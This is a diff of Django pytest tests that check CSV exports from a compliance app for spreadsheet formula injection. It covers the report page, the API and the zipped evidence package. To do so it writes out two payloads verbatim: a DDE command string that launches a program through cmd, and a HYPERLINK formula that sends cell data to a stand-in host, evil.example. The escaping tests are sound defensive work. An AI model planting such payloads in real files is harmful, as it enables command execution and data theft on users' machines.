@@ -6,15 +6,19 @@ import io
 import json
 import os
 import re
+import zipfile
 
 import pytest
 from django.urls import URLPattern, URLResolver, get_resolver
 from django.utils import timezone
 from trestle.oscal.assessment_results import AssessmentResults
 
+from compliance import package_requests
 from compliance.models import EvidencePackage
+from compliance.period import period_parse
 from compliance.reports import pdf
 from compliance.reports.export import CSV_COLUMNS
+from compliance.tasks import build_evidence_package
 from controls.models import Control, Framework
 from tests.compliance.factories import EvidenceFileFactory
 from tests.registry.factories import AgentFactory
@@ -72,6 +76,48 @@ def test_csv_cells_that_look_like_formulas_are_neutralised(client, auditor, secu
     rows = _csv_rows(client.get(f"{PAGE}csv/"))
     titles = {row["control_title"] for row in rows if row["control_ref_id"] == "AGC-08"}
     assert titles == {"'=HYPERLINK(1)"}
+
+
+CALC = "-1+1+cmd|' /C calc'!A0"
+LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+
+
+def _plant_formulas() -> None:
+    Control.objects.filter(ref_id="AGC-08").update(title=CALC)
+    Control.objects.filter(ref_id="AGC-07").update(title=LINK)
+
+
+def _assert_escaped(rows: list[dict[str, str]]) -> None:
+    titles = {row["control_ref_id"]: row["control_title"] for row in rows}
+    assert titles["AGC-08"] == "'" + CALC
+    assert titles["AGC-07"] == "'" + LINK
+    for row in rows:  # numbers (depth, counts) are written as they are
+        assert row["item_depth"].isdigit()
+        assert not row["checked"] or row["checked"].isdigit()
+    for row in rows:
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r" or value.lstrip("+-").isdigit()
+
+
+def test_formula_payloads_are_escaped_in_the_report_csv(client, auditor, records):
+    _plant_formulas()
+    client.force_login(auditor)
+    _assert_escaped(_csv_rows(client.get(f"{PAGE}csv/")))
+    api_csv = client.get(f"{API}?format=csv")
+    _assert_escaped(_csv_rows(api_csv))
+
+
+def test_formula_payloads_are_escaped_in_the_evidence_package_csv(auditor, records):
+    _plant_formulas()
+    package = package_requests.package_request(
+        actor=auditor, framework=Framework.objects.get(key=NIST), period=period_parse(None, None)
+    )
+    build_evidence_package.delay(package.pk)
+    package.refresh_from_db()
+    with package.file.open("rb") as handle:
+        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
+    name = next(n for n in archive.namelist() if n.startswith("report/") and n.endswith(".csv"))
+    _assert_escaped(list(csv.DictReader(io.StringIO(archive.read(name).decode()))))
 
 
 def test_json_export(client, auditor, records):
